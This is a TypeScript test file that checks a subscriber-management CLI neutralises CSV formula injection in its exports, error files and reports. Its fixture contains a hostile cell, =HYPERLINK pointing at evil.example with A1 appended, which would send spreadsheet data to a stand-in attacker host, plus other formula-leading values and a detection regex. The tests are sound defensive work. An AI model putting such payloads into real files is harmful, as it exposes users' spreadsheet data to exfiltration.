import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runCli, useTempHome } from '../support/cli.js';

const t = useTempHome();
const cli = t.cli;

/** The cells of a CSV file canale wrote (a byte-order mark and `;` for Excel files). */
async function cellsOf(name: string, delimiter = ','): Promise<string[][]> {
  const text = (await readFile(join(t.dir, name), 'utf8')).replace(/^\uFEFF/, '');
  return parse(text, { delimiter, relax_column_count: true }) as string[][];
}

/** A spreadsheet runs a cell that starts with one of these as a formula (OWASP's CSV injection). */
const FORMULA = /^[=+\-@\t\r]/;

const HOSTILE = [
  'nome;telefono;email;argomenti;quartiere',
  '"=HYPERLINK(""http://evil.example/?""&A1;""clic"")";+39 333 100 0001;a@example.it;cantieri;@SUM(1+1)',
  "'Ndrangheta Studi;333 100 0002;b@example.it;cantieri;-2+3",
  // typed with a ' before it, as in a spreadsheet: read as the text after it
  "D'Angelo;333 100 0003;c@example.it;cantieri;'=senza apice",
  '',
].join('\r\n');

type Listed = Array<Record<string, unknown>>;
const list = async (home: string): Promise<Listed> =>
  (JSON.parse((await runCli(['subscribers', 'list', '--json'], { home, cwd: t.dir })).stdout) as Listed).map(({ history: _h, ...rest }) => rest);

describe('CSV outputs are safe to open in a spreadsheet, end to end', () => {
  it('export (and --excel) writes no formula, a phone as \'+39…, and imports back as the same subscribers', async () => {
    await writeFile(join(t.dir, 'ostili.csv'), HOSTILE);
    const imported = await cli('import', 'ostili.csv', '--yes');
    expect(imported.code, imported.stderr).toBe(0);
    expect((await list(t.home)).map((s) => [s.name, (s.attributes as Record<string, string>).quartiere])).toEqual([
      ['=HYPERLINK("http://evil.example/?"&A1;"clic")', '@SUM(1+1)'],
      ["'Ndrangheta Studi", '-2+3'],
      ["D'Angelo", '=senza apice'],
    ]);

    expect((await cli('subscribers', 'export', '--out', 'export.csv')).code).toBe(0);
    expect((await cli('subscribers', 'export', '--excel', '--out', 'export-excel.csv')).code).toBe(0);
    for (const [file, delimiter] of [['export.csv', ','], ['export-excel.csv', ';']] as const) {
      const rows = await cellsOf(file, delimiter);
      expect(rows.flat().filter((c) => FORMULA.test(c)), file).toEqual([]);
      const [header = [], ...body] = rows;
      const at = (column: string) => body.map((r) => r[header.indexOf(column)]);
      expect(at('name')).toEqual([`'=HYPERLINK("http://evil.example/?"&A1;"clic")`, "'Ndrangheta Studi", "D'Angelo"]);
      expect(at('phone')).toEqual(["'+393331000001", "'+393331000002", "'+393331000003"]);
      expect(at('quartiere')).toEqual(["'@SUM(1+1)", "'-2+3", "'=senza apice"]);

      const other = join(t.dir, `casa-${file}`);
      const back = await runCli(['import', join(t.dir, file), '--yes', '--json'], { home: other, cwd: t.dir });
      expect(back.code, back.stderr).toBe(0);
      expect(await list(other)).toEqual(await list(t.home));
    }
  });

  it('--errors keeps the rejected cells as they were, neutralised, and the fixed file imports them as they were', async () => {
    await writeFile(join(t.dir, 'ostili.csv'), HOSTILE.replace('333 100 0002', '12').replace('cantieri;@SUM', 'sport;@SUM'));
    const partial = await cli('import', 'ostili.csv', '--yes', '--skip-invalid', '--errors', 'scartati.csv');
    expect(partial.code, partial.stderr).toBe(3);
    const rows = await cellsOf('scartati.csv', ';');
    expect(rows.flat().filter((c) => FORMULA.test(c))).toEqual([]);
    expect(rows.slice(1).map((r) => r.slice(0, 5))).toEqual([
      [`'=HYPERLINK("http://evil.example/?"&A1;"clic")`, "'+39 333 100 0001", 'a@example.it', 'sport', "'@SUM(1+1)"],
      ["'Ndrangheta Studi", '12', 'b@example.it', 'cantieri', "'-2+3"],
    ]);
    // the reason names the value as it was (a spreadsheet would run `"=…` no more than any text)
    expect(rows[1]?.[5]).toMatch(/^argomenti "sport": unknown topic/);

    const fixed = (await readFile(join(t.dir, 'scartati.csv'), 'utf8')).replace(';sport;', ';cantieri;').replace(';12;', ';333 100 0002;');
    await writeFile(join(t.dir, 'scartati.csv'), fixed);
    const again = await cli('import', 'scartati.csv', '--yes', '--json');
    expect(again.code, again.stderr).toBe(0);
    expect(JSON.parse(again.stdout)).toMatchObject({ inserted: 2, rejected: 0 });
    const listed = await list(t.home);
    expect(listed.map((s) => [s.name, s.phone, (s.attributes as Record<string, string>).quartiere])).toEqual([
      ["D'Angelo", '+393331000003', '=senza apice'],
      ['=HYPERLINK("http://evil.example/?"&A1;"clic")', '+393331000001', '@SUM(1+1)'],
      ["'Ndrangheta Studi", '+393331000002', '-2+3'],
    ]);
  });

  it('report --format csv --with-contacts writes the names and phones neutralised', async () => {
    await writeFile(join(t.dir, 'ostili.csv'), HOSTILE);
    expect((await cli('import', 'ostili.csv', '--yes')).code).toBe(0);
    const sent = await cli('send', '--topic', 'cantieri', '--text', 'Via Roma chiusa', '--subject', 'Via Roma', '--via', 'outbox', '--yes', '--quiet');
    expect(sent.code, sent.stderr).toBe(0);
    const report = await cli('report', '--last', '--format', 'csv', '--with-contacts');
    expect(report.code, report.stderr).toBe(0);
    const rows = parse(report.stdout) as string[][];
    expect(rows.flat().filter((c) => FORMULA.test(c))).toEqual([]);
    expect(rows.slice(1).map((r) => r.slice(-2))).toEqual([
      [`'=HYPERLINK("http://evil.example/?"&A1;"clic")`, "'+393331000001"],
      ["'Ndrangheta Studi", "'+393331000002"],
      ["D'Angelo", "'+393331000003"],
    ]);
  });
});
